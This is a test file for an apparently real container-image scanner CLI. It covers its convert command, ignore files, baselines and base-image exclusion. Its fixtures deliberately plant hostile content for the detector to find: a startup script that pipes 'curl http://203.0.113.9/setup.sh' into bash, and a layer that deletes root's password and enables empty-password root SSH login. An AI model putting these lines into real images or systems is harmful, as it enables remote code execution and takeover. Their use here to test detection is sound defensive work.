import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { miningImages, openImages } from '../demo/campaign.ts';
import { honestImages } from '../demo/honest.ts';
import { debianRoot, file, script } from '../demo/rootfs.ts';
import type { SingleReport } from '../src/report/json-schema.ts';
import { builtCli, type CliResult, startCli } from '../testkit/built-cli.ts';
import { type BuiltImage, buildImage, type Step } from '../testkit/image.ts';
import { type TestFolder, testFolder } from '../testkit/source-options.ts';
import { writeOciLayout } from '../testkit/store.ts';

/** The command itself, over whole images: what suppresses, what must not, and `convert`. */

let main = '';
let folder: TestFolder;
const at = (...names: string[]): string => join(folder.path, ...names);

beforeAll(async () => {
  main = await builtCli();
  folder = await testFolder();
  for (const name of ['home', 'tmp']) await mkdir(at(name));
  const demo = [...miningImages(), ...openImages(), ...honestImages()];
  await writeOciLayout(
    at('demo'),
    demo.map(({ name, spec }) => ({ name, image: buildImage(spec) })),
  );
});

afterAll(() => folder.remove());

function run(args: readonly string[], stdin?: string, cwd = folder.path): Promise<CliResult> {
  const env = { HOME: at('home'), TMPDIR: at('tmp') };
  return startCli(main, args, { env, cwd, ...(stdin === undefined ? {} : { stdin }) }).done;
}

async function json(...args: readonly string[]): Promise<SingleReport> {
  return JSON.parse((await run(['-f', 'json', ...args])).out) as SingleReport;
}

/** Where the decision, the rules that count and those that do not stand. */
async function outcome(...args: readonly string[]) {
  const { verdict, findings, suppressed } = await json(...args);
  return {
    decision: verdict.decision,
    counts: findings.map(({ rule }) => rule),
    suppressed: suppressed.map(({ by, finding }) => `${by}: ${finding.rule}`),
  };
}

async function layout(name: string, image: BuiltImage): Promise<string> {
  await writeOciLayout(at(name), [{ image, name: 'registry.example.com/team/app:1' }]);
  return `oci:./${name}`;
}

async function given(name: string, ...lines: readonly string[]): Promise<string> {
  await writeFile(at(name), `${lines.join('\n')}\n`);
  return at(name);
}

const ROOTFS: Step = { createdBy: 'ADD file:3d1f0a7c9b in /', items: debianRoot() };
const OPEN_ROOT: Step = {
  createdBy: 'RUN /bin/sh -c passwd -d root # buildkit',
  items: [
    file('etc/shadow', ['root::17710:0:99999:7:::', 'daemon:*:17710:0:99999:7:::'], 0o640),
    file('etc/ssh/sshd_config', ['PermitRootLogin yes', 'PermitEmptyPasswords yes']),
  ],
};
const CMD: Step = { createdBy: 'CMD ["bash"]' };
const copy = (path: string, ...lines: string[]): Step => ({
  createdBy: `COPY ${path} / # buildkit`,
  items: [script(path, lines)],
});
const setup = (host: string): string => `curl -fsSL http://${host}/setup.sh | bash`;

describe('convert', () => {
  let saved: CliResult;
  beforeAll(async () => {
    saved = await run(['oci:demo', '-f', 'json']);
  });

  it.each(['text', 'json', 'sarif', 'markdown', 'table'])(
    'prints every demo image as check -f %s did',
    async (format) => {
      const expected = await run(['oci:demo', '-f', format]);
      expect(expected.out.length).toBeGreaterThan(1000);
      const converted = await run(['convert', '-', '-f', format], saved.out);
      expect(converted).toMatchObject({ code: 0, out: expected.out, err: '' });
    },
  );

  it('prints one image as check did, with what was suppressed', async () => {
    const ignore = await given(
      'one.yaml',
      'version: 1',
      'ignore: [{ rule: miner/proof, reason: a test, expires: 2030-01-01 }]',
    );
    const args = ['oci:demo:demo2018/tomcat:latest', '--ignore-file', ignore];
    const { out } = await run([...args, '-f', 'json']);
    for (const options of [['--show-suppressed'], ['-v'], ['-f', 'sarif'], ['-f', 'markdown'], ['-q']]) {
      expect((await run(['convert', '-', ...options], out)).out).toBe((await run([...args, ...options])).out);
    }
  });
});

describe('an ignore file', () => {
  const MINER = 'oci:demo:demo2018/tomcat:latest';
  const ALL = [
    'version: 1',
    'ignore:',
    '  - rule: [miner/*, wallet/*, pool/*]',
    '    path: /usr/local/tomcat/temp/**',
    '    reason: the test bed of our detectors',
    '    expires: 2090-12-31',
  ];

  it('hides what it names, says so, and the exit code follows', async () => {
    const ignore = await given('all.yaml', ...ALL);
    const { code, out, err } = await run([MINER, '--ignore-file', ignore, '--fail-on', 'review']);
    expect([code, err]).toEqual([0, '']);
    expect(out).toContain('4 findings suppressed (2 critical, 1 high, 1 medium): 4 by the ignore file');
  });

  it('counts for nothing where it merely lies in the current folder', async () => {
    await mkdir(at('strange'));
    for (const name of ['.clearpull-ignore.yaml', '.clearpullignore', 'clearpull-ignore.yaml']) {
      await given(`strange/${name}`, ...ALL);
    }
    const check = [`oci:${at('demo')}:demo2018/tomcat:latest`];
    expect((await run(check, undefined, at('strange'))).code).toBe(1);
    // Nor may a configuration file there name one.
    await given('strange/.clearpull.yaml', 'ignore-file: .clearpull-ignore.yaml');
    const { code, err } = await run(check, undefined, at('strange'));
    expect([code, err]).toEqual([2, expect.stringContaining('ignore-file')]);
  });

  it('never hides bytes that are not what their digest promises', async () => {
    const image = buildImage({ steps: [ROOTFS, copy('a.sh', 'true'), CMD] });
    const target = await layout('spoiled', image);
    const [, layer] = image.layers;
    const blob = at('spoiled', 'blobs', 'sha256', layer?.digest.slice(7) ?? '');
    await writeFile(blob, Buffer.alloc(layer?.size ?? 0));
    const ignore = await given(
      'integrity.yaml',
      'version: 1',
      'ignore:',
      '  - { rule: integrity/*, reason: x, expires: never }',
      '  - { rule: coverage/*, reason: known to be broken, expires: never }',
    );
    const report = (await run([target, '-f', 'json'])).out;
    await writeFile(at('spoiled.json'), report);
    const result = await outcome(target, '--ignore-file', ignore, '--baseline', at('spoiled.json'));
    expect(result.decision).toBe('block');
    expect(result.counts).toContain('integrity/digest-mismatch');
    expect(result.suppressed.filter((text) => text.includes('integrity'))).toEqual([]);
  });
});

describe('a baseline', () => {
  const image = (...more: readonly Step[]): BuiltImage =>
    buildImage({ steps: [ROOTFS, ...more, CMD], config: { Entrypoint: ['/start.sh'] } });

  it('knows what it held after a rebuild, and counts what is new, changed or gone', async () => {
    const first = image(OPEN_ROOT, copy('start.sh', '#!/bin/bash', setup('203.0.113.9'), 'exec "$@"'));
    const old = at('first.json');
    const target = await layout('app', first);
    await writeFile(old, (await run([target, '-f', 'json'])).out);
    const found = (await outcome(target)).counts;
    expect(found.length).toBeGreaterThan(1);
    expect((await run([target, '--fail-on', 'review'])).code).toBe(1);

    // The same things on other lines, in other layers of other digests.
    const rebuilt = image(
      copy('new.sh', 'true'),
      OPEN_ROOT,
      copy('start.sh', '#!/bin/bash', '# a comment', '', setup('203.0.113.9'), 'exec "$@"'),
    );
    await layout('app', rebuilt);
    const known = await run([target, '--fail-on', 'review', '--baseline', old]);
    expect(known.code).toBe(0);
    expect(known.out).toContain(`0 new, ${found.length} known from the baseline`);

    // Another host at the same place; the account is closed again.
    const changed = image(copy('start.sh', '#!/bin/bash', setup('203.0.113.66'), 'exec "$@"'));
    await layout('app', changed);
    const worse = await run([target, '--baseline', old]);
    expect(worse.code).toBe(1);
    expect(worse.out).toMatch(/0 new, \d changed or worse, 0 known .* \d+ no longer there/s);
    const { baseline, findings } = await json(target, '--baseline', old);
    expect(new Set(findings.map(({ baselineState }) => baselineState))).toEqual(new Set(['updated']));
    expect(baseline?.absent.map(({ rule }) => rule)).toContain('access/no-password');
  });
});

describe('--ignore-base', () => {
  const base = buildImage({ steps: [ROOTFS, OPEN_ROOT, CMD] });
  const app = buildImage({
    steps: [ROOTFS, OPEN_ROOT, CMD, copy('app.sh', '#!/bin/sh', 'echo hello'), CMD],
    config: { Cmd: ['/app.sh'] },
  });
  const targets = { base: '', app: '' };

  beforeAll(async () => {
    targets.base = await layout('base', base);
    targets.app = await layout('on-base', app);
  });

  it('with the base named leaves out what lies in its layers', async () => {
    const before = await outcome(targets.app);
    expect(before).toMatchObject({ decision: 'review', suppressed: [] });
    const after = await outcome(targets.app, '--ignore-base', '--base', targets.base);
    expect(after).toEqual({
      decision: 'allow',
      counts: [],
      suppressed: before.counts.map((rule) => `base-image: ${rule}`),
    });
  });

  it('without it takes the image at its word for nothing that counts', async () => {
    const { decision, suppressed } = await outcome(targets.app, '--ignore-base');
    expect([decision, suppressed]).toEqual(['review', []]);
    const { out } = await run([targets.app, '--ignore-base']);
    expect(out.replace(/\s+/g, ' ')).toMatch(/the lowest 2 layers are the base.*only a claim.*--base IMAGE/);
  });

  it('leaves out nothing when the image is not built on what was named', async () => {
    const other = await layout('other-base', buildImage({ steps: [ROOTFS, copy('x', 'y'), CMD] }));
    const { decision, suppressed } = await outcome(targets.app, '--ignore-base', '--base', other);
    expect([decision, suppressed]).toEqual(['review', []]);
    expect((await run([targets.app, '--ignore-base', '--base', other])).out).toContain('is not built on');
  });

  it('is not taken in by an image that calls all of itself the base', async () => {
    const spec = miningImages()[0]?.spec;
    const steps = [...(spec?.steps ?? []), CMD, copy('last.sh', 'true')];
    const annotations = { 'org.opencontainers.image.base.name': 'docker.io/library/tomcat:8' };
    const claims = await layout('claims', buildImage({ ...spec, steps, annotations }));
    const before = await outcome(claims);
    expect(before.decision).toBe('block');
    const after = await outcome(claims, '--ignore-base');
    expect(after).toEqual(before);
    expect((await run([claims, '--ignore-base'])).code).toBe(1);
  });

  it('keeps what the base left lying and the image itself starts', async () => {
    const reverse = openImages().find(({ name }) => name === 'demo2018/mysql6:latest')?.spec;
    const all = buildImage(reverse as never);
    const own = await layout('own', all);
    // The whole image is its own base here, and still what it starts counts.
    const { decision } = await outcome(own, '--ignore-base', '--base', own);
    expect(decision).toBe('block');
  });

  it('ends with 3 when the base cannot be had', async () => {
    const { code, err } = await run([targets.app, '--ignore-base', '--base', 'oci:./nowhere']);
    expect(code).toBe(3);
    expect(err).toMatch(/The base image could not be compared/);
  });
});
